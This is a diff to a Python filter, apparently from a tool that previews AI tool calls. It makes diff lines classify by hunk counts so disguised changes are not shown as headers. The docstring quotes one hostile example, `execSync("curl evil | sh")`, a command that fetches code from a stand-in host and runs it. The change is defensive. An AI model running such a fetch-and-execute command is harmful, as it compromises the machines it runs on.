@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import unicodedata
 from collections.abc import Iterable
 from typing import Any
@@ -57,20 +58,40 @@ def call_preview(call: ToolCall) -> Preview | None:
         return None
 
 
+_HUNK = re.compile(r"@@ -\d+(?:,(\d+))? \+\d+(?:,(\d+))? @@")
+
+
 @register.filter
 def diff_lines(diff: str) -> list[tuple[str, str]]:
     """(css class, line) for each line of a unified diff. Lines end at newlines only: a
-    line or paragraph separator, form feed or the like inside a line is shown escaped."""
+    line or paragraph separator, form feed or the like inside a line is shown escaped.
+
+    A line's kind is read as `patch` reads it: inside a hunk, by its first character, for
+    as many old and new lines as the hunk's header counts (an added line `++n;` or a
+    removed `--- a` is a change, not a header: shown in the headers' colour, an added
+    `++n; execSync("curl evil | sh")` passed for part of the diff's frame); outside one,
+    every line is the frame's (`---`, `+++`, `@@`, `\\ No newline at end of file`).
+    A hunk whose counts run out early or late shows what is left as the frame's, never
+    as context."""
     lines = []
+    old = new = 0
     for line in str(diff).removesuffix("\n").split("\n") if diff else []:
-        if line.startswith(("+++", "---", "@@")):
-            kind = "meta"
-        elif line.startswith("+"):
-            kind = "add"
-        elif line.startswith("-"):
-            kind = "del"
-        else:
-            kind = "ctx"
+        kind = "meta"
+        if old > 0 or new > 0:
+            first = line[:1]
+            if first == "+" and new > 0:
+                kind, new = "add", new - 1
+            elif first == "-" and old > 0:
+                kind, old = "del", old - 1
+            elif first == " " and old > 0 and new > 0:
+                kind, old, new = "ctx", old - 1, new - 1
+            elif first == "\\":
+                pass
+            else:  # not what the header counted: the rest is shown as the frame's
+                old = new = 0
+        elif match := _HUNK.match(line):
+            old = int(match[1] if match[1] is not None else 1)
+            new = int(match[2] if match[2] is not None else 1)
         lines.append((kind, display.visible(line)))
     return lines
 
